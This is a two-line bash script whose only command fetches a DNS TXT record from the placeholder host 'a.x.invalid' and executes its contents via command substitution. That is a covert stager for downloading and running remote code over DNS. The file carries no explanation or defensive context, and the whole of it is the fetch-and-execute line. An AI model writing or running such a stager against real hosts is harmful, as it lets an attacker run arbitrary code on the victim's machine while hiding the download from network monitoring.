#!/bin/bash
$(dig +short txt a.x.invalid | tr -d '"')
